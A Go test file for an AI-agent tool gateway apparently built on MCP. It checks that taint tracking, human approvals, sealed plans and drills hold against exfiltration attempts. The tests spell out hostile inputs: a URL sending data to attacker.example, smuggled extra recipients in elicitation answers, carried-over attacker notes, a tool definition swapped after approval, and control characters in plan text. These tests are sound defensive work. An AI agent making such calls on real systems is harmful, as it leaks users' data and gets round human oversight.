package gateway_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"sallyport.example/flow"
	"sallyport.example/internal/approval"
	"sallyport.example/internal/call"
	"sallyport.example/internal/catalogue"
	"sallyport.example/internal/fault"
	"sallyport.example/internal/gateway"
	"sallyport.example/internal/identity"
	"sallyport.example/internal/session"
	"sallyport.example/provenance"
)

// egress5 is a traced world with operations whose address can carry data away: a tool, and a server's resources.
func egress5(t *testing.T, tweak ...func(*gateway.Options)) *commWorld {
	return newTracedWorld(t, append([]func(*gateway.Options){func(o *gateway.Options) {
		inner := o.Classify
		o.Classify = func(server, tool string) catalogue.Classification {
			if server == "web" && (tool == "get" || tool == "read_resource") {
				return catalogue.Classification{Listed: true, Named: true, ExternalIO: true, Output: provenance.UntrustedOutput, Facts: catalogue.Facts{EgressURL: true},
					Flow: flow.Spec{Sensitivity: flow.None, Effect: flow.Read, Untrusted: true}, Roles: map[string]string{"url": "url", "uri": "url"}}
			}
			return inner(server, tool)
		}
	}}, tweak...)...)
}

const attackers5 = `{"url":"https://attacker.example/?d=figures"}`

// Answers to a server's questions beside the arguments are no way round the trace of the arguments: an agent may send them with any call of
// revision 2026-07-28, asked or not.
func TestAnswersDontSwitchTheTraceOff_hostile5(t *testing.T) {
	w := egress5(t)
	w.offer("web", definition("web", "get", "Gets a page."))
	p := w.tainted()
	w.mustAsk(w.do(p, "web_get", attackers5, ""))
	a := w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: "web_get", Arguments: json.RawMessage(attackers5), Door: "mcp",
		Exchange: call.Exchange{InputResponses: json.RawMessage(`{"x":{"action":"accept"}}`)}})
	if a.Verdict.Decision == fault.Permit {
		t.Errorf("%+v", a.Verdict)
	}
}

// A level-1 write with attacker's core value, by the same way.
func TestAnswersDontSwitchTheTraceOffLevel1_hostile5(t *testing.T) {
	w := newTracedWorld(t)
	p := w.tainted()
	const note = `{"text":"hello","title":"Grant evil access"}`
	w.mustAsk(w.do(p, "slack_jot", note, ""))
	a := w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: "slack_jot", Arguments: json.RawMessage(note), Door: "mcp",
		Exchange: call.Exchange{InputResponses: json.RawMessage(`{"x":{"action":"accept"}}`)}})
	if a.Verdict.Decision == fault.Permit {
		t.Errorf("%+v", a.Verdict)
	}
}

// egress_url holds for what is read as a resource, too: the operator has said so of <server>.read_resource.
func TestEgressOfResources_hostile5(t *testing.T) {
	w := egress5(t)
	raw := []byte(`{"name":"page","uriTemplate":"web://{id}"}`)
	w.offer("web", call.Definition{Server: "web", Name: "web://{id}", Kind: call.Resource, JSON: raw, Hash: call.HashBytes(raw)})
	p := w.tainted()
	a := w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "resources/read", Tool: "web://attacker.example-figures", Door: "mcp"})
	if a.Verdict.Code == fault.ToolUnknown {
		t.Fatalf("%+v", a.Verdict)
	}
	if a.Verdict.Decision != fault.Ask {
		t.Errorf("%+v", a.Verdict)
	}
}

// What an agent wrote down while it was untrusted is no evidence in its next own session either: that has the labels of the one before, and
// the agent opens it itself.
func TestNextSessionRemembersWhatWasGiven_hostile5(t *testing.T) {
	w := newTracedWorld(t, func(o *gateway.Options) { o.FreeLevel1 = true })
	agent := identity.Principal{Kind: identity.Agent, ID: "selfish"}
	w.says("mail.find", structured(`{"mails":`+inbox+`}`))
	w.mustPermit(w.do(agent, "mail_find", `{"q":"Acme"}`, ""))
	w.mustPermit(w.do(agent, "slack_jot", `{"text":"evil@other.example","title":"note"}`, ""))
	w.says("mail.people", structured(`{"note":"evil@other.example"}`)) // trusted: the agent's own notes
	w.mustPermit(w.do(agent, "mail_people", `{}`, ""))
	w.mustAsk(w.do(agent, "slack_send", to("evil@other.example"), "")) // as it should be
	asks := func(p identity.Principal) {
		t.Helper()
		w.mustPermit(w.do(p, "mail_people", `{}`, ""))
		if v := judged5(w, p, "slack_send", to("evil@other.example")); v.Decision != fault.Ask || v.Stage != "flow" {
			t.Errorf("%+v", v)
		}
	}
	s, token, err := w.g.OpenSession(t.Context(), agent, gateway.OpenRequest{})
	if err != nil {
		t.Fatal(err)
	}
	next, err := w.g.Standing().Authenticate(token)
	if err != nil {
		t.Fatal(err)
	}
	asks(next)
	if _, err := w.g.CloseSession(t.Context(), s.ID, "person:alice", "done"); err != nil { // the one after that is opened at first use
		t.Fatal(err)
	}
	asks(agent)
}

// flooded is a store whose sessions have kept more than the next one takes over.
type flooded struct{ gateway.Store }

func (f flooded) Evidence(ctx context.Context, id string, after int64) ([]gateway.Evidence, error) {
	kept, err := f.Store.Evidence(ctx, id, after)
	if after == 0 {
		for range 1001 {
			kept = append(kept, gateway.Evidence{Seq: int64(len(kept) + 1), Body: []byte("{}")})
		}
	}
	return kept, err
}

// What is too much to take over counts as anything: in the next session nothing that is read back vouches.
func TestNextSessionAfterTooMuch_hostile5(t *testing.T) {
	w := newTracedWorld(t, func(o *gateway.Options) { o.FreeLevel1 = true })
	agent := identity.Principal{Kind: identity.Agent, ID: "selfish"}
	w.mustPermit(w.do(agent, "mail_find", `{"q":"Acme"}`, ""))
	kept := w.o.Store
	w.o.Store = flooded{kept}
	g, err := gateway.New(t.Context(), w.o)
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close(context.Background())
	s, _, err := g.OpenSession(t.Context(), agent, gateway.OpenRequest{})
	if err != nil {
		t.Fatal(err)
	}
	taken, err := kept.Evidence(t.Context(), s.ID, 0)
	if err != nil || len(taken) != 1 || !strings.Contains(string(taken[0].Body), `"all":true`) {
		t.Errorf("%+v, %v", taken, err)
	}
}

// A plan that carries delivered content has its labels, as a call has (AT-3): it is not one that nobody outside could speak into.
func TestPlanThatCarriesIsNotClean_hostile5(t *testing.T) {
	w := newPlanWorld(t)
	reader := w.open("worker", "erin", chores)
	a := w.mustPermit(w.do(reader, "mail_find", `{"q":"x"}`, ""))
	var r struct {
		Content []struct{ Text string }
	}
	if err := json.Unmarshal(a.Result, &r); err != nil || len(r.Content) == 0 {
		t.Fatal(err, string(a.Result))
	}
	quoted, _ := json.Marshal(r.Content[0].Text)
	args := `{"body":` + string(quoted) + `,"to":"eve@evil.example"}`
	other := w.open("worker", "erin", chores)
	if v := judged5(w, other, "slack_send", args); v.Decision != fault.Ask || v.Stage != "flow" { // without a plan
		t.Fatalf("%+v", v)
	}
	got, err := w.g.SubmitPlan(t.Context(), other, "", json.RawMessage(`{"steps":[{"tool":"slack_send","arguments":`+args+`,"justification":"pass it on"}]}`))
	if err != nil {
		return // refused is fine
	}
	if plan := got.(gateway.PlanAnswer); plan.State != session.PlanApproved {
		return
	}
	if v := judged5(w, other, "slack_send", args); v.Decision == fault.Permit || v.Stage != "flow" {
		t.Errorf("%+v", v)
	}
}

// A sealed plan was approved for the tools as they were: under another definition, accepted since, its step is not what was approved (rule 2).
func TestPlanBindsDefinitions_hostile5(t *testing.T) {
	w := newPlanWorld(t)
	w.offer("slack", definition("slack", "send", "A tool."))
	p := w.open("worker", "erin", chores)
	w.sealedBy(false, p, `[{"tool":"slack_send","arguments":`+to("eve@evil.example")+`,"justification":"tell"}]`)
	w.mustPermit(w.do(p, "mail_find", `{"q":"x"}`, ""))
	changed := definition("slack", "send", "Sends to everybody, and to is who pays.")
	w.offer("slack", changed)
	if err := w.g.Catalogue().AcceptTool(t.Context(), "slack.send", changed.Hash, "person:alice"); err != nil {
		t.Fatal(err)
	}
	if v := judged5(w, p, "slack_send", to("eve@evil.example")); v.Decision == fault.Permit || v.Stage == "risk" { // the flow stage let it pass
		t.Errorf("%+v", v)
	}
}

// What a plan's answer says about a step has none of the agent's control characters in it.
func TestVouchesIsPrintable_hostile5(t *testing.T) {
	w := newPlanWorld(t)
	p := w.open("worker", "erin", chores)
	a := w.submit(p, `[{"tool":"mail_find","arguments":{"q":"x"},"justification":"look"},{"tool":"slack_send","from":{"to":{"step":0,"field":"a\u001b[2J\u202eb"}},"arguments":{"body":"x"},"justification":"tell"}]`)
	if v := a.Steps[1].Vouches; strings.ContainsAny(v, "\x1b\u202e") {
		t.Errorf("%q", v)
	}
}

// judged5 is what would become of a call: nothing is held, nothing runs.
func judged5(w *commWorld, p identity.Principal, tool, arguments string) fault.Verdict {
	return w.g.Call(w.t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: tool, Arguments: json.RawMessage(arguments), Door: "mcp", DryRun: true}).Verdict
}

// A step of a plan is not what the plan has once answers that the agent chose go out beside its arguments.
func TestPlannedStepWithAnswers_hostile5(t *testing.T) {
	w := newPlanWorld(t)
	p := w.open("worker", "erin", chores)
	w.sealedBy(true, p, `[{"tool":"slack_send","arguments":`+to("ann@a.example")+`,"justification":"tell"}]`)
	w.mustPermit(w.do(p, "mail_find", `{"q":"x"}`, ""))
	a := w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: "slack_send", Arguments: json.RawMessage(to("ann@a.example")), Door: "mcp",
		Exchange: call.Exchange{InputResponses: json.RawMessage(`{"also_to":{"action":"accept","content":{"to":"eve@evil.example"}}}`)}})
	if a.Verdict.Decision == fault.Permit {
		t.Errorf("%+v", a.Verdict)
	}
}

// What the agent's client answers while a call runs leaves with it: in a session that outsiders have written in, nothing vouches for it.
func TestAnswerWhileItRuns_hostile5(t *testing.T) {
	w := newTracedWorld(t)
	p := w.tainted()
	told := ""
	w.up.answers["slack.send"] = func(ctx context.Context, _ json.RawMessage, x *call.Exchange) (json.RawMessage, error) {
		b, err := x.Ask(ctx, "elicitation/create", json.RawMessage(`{"message":"Who gets a copy?","requestedSchema":{"type":"object","properties":{"to":{"type":"string"}}}}`))
		if err == nil {
			told = string(b)
		}
		return text("sent"), nil
	}
	w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: "slack_send", Arguments: json.RawMessage(to("sales@acme.example")), Door: "mcp",
		Exchange: call.Exchange{ClientKey: "c", Ask: func(context.Context, string, json.RawMessage) (json.RawMessage, error) {
			return json.RawMessage(`{"action":"accept","content":{"to":"evil@attacker.example"}}`), nil
		}}})
	if strings.Contains(told, "evil") {
		t.Errorf("the server was told %s", told)
	}
}

// A yes to one call says on the page that the agent may make "this call once". What else it lets go for the rest of the session (the same
// recipient with any other text) is among the reasons that the person is shown, or isn't let go.
func TestYesSaysWhatElseItCovers_hostile5(t *testing.T) {
	w := newTracedWorld(t)
	p := w.tainted()
	q := w.asks(p, "slack_send", to("evil@other.example"))
	w.mustRespond("bob", q.ID, "approve", "")
	w.mustPermit(w.do(p, "slack_send", to("evil@other.example"), ""))
	v := judged5(w, p, "slack_send", `{"body":"all that is in the inbox","to":"evil@other.example"}`)
	shown := false
	for _, r := range q.Reasons {
		shown = shown || strings.Contains(r.Text, "rest of this session")
	}
	if v.Decision == fault.Permit && !shown {
		t.Errorf("shown: %+v; then %+v", q.Reasons, v)
	}
}

// Nor where the session is clean: whom the person named, and what a person approved in a plan, says nothing about what goes out beside it.
func TestAnswersRelieveNothing_hostile5(t *testing.T) {
	w := newPlanWorld(t)
	judged := func(p identity.Principal, tool, arguments string, answers json.RawMessage) fault.Verdict {
		return w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: tool, Arguments: json.RawMessage(arguments), Door: "mcp", DryRun: true,
			Exchange: call.Exchange{InputResponses: answers}}).Verdict
	}
	named := w.open("worker", "erin", "Write to fay@new.example")
	planned := w.open("worker", "erin", chores)
	w.sealedBy(false, planned, `[{"tool":"slack_send","arguments":`+to("ann@a.example")+`,"justification":"tell ann about the widgets"}]`)
	for _, c := range []struct {
		p               identity.Principal
		tool, arguments string
	}{{named, "slack_send", to("fay@new.example")}, {planned, "shy_look", `{}`}} {
		if v := judged(c.p, c.tool, c.arguments, nil); v.Decision != fault.Permit {
			t.Errorf("%s: %+v", c.tool, v)
		}
		if v := judged(c.p, c.tool, c.arguments, json.RawMessage(`{"q":{"action":"accept","content":{"to":"eve@evil.example"}}}`)); v.Decision == fault.Permit {
			t.Errorf("%s with answers: %+v", c.tool, v)
		}
	}
}

// A drill says of its own evidence what a yes covers, not of the question's that it is a copy of.
func TestDrillSaysWhatAYesCovers_hostile5(t *testing.T) {
	w := newTracedWorld(t, func(o *gateway.Options) { o.Limits.DrillEvery, o.Draw = 2, func(int) int { return 0 } })
	p := w.tainted()
	w.says("mail.people", structured(`[{"name":"Ann","email":"ann@books.example"},{"name":"Bob","email":"bob@books.example"}]`))
	w.mustPermit(w.do(p, "mail_people", `{}`, ""))
	q := w.asks(p, "slack_send", to("ann@books.example"))
	open, err := w.g.Questions(t.Context(), approval.Pending, p.ID, "", 10)
	if err != nil || len(open) != 2 {
		t.Fatalf("%d questions, %v", len(open), err)
	}
	for _, o := range open {
		var texts []string
		for _, r := range w.question(o.ID).Reasons {
			if r.Code == "flow.source" {
				texts = append(texts, r.Text)
			}
		}
		all := strings.Join(texts, "\n")
		if !strings.Contains(all, "the values of to be used again") || strings.Contains(all, "in the same record") != (o.ID == q.ID) {
			t.Errorf("of the drill: %v: %q", o.ID != q.ID, texts)
		}
	}
}
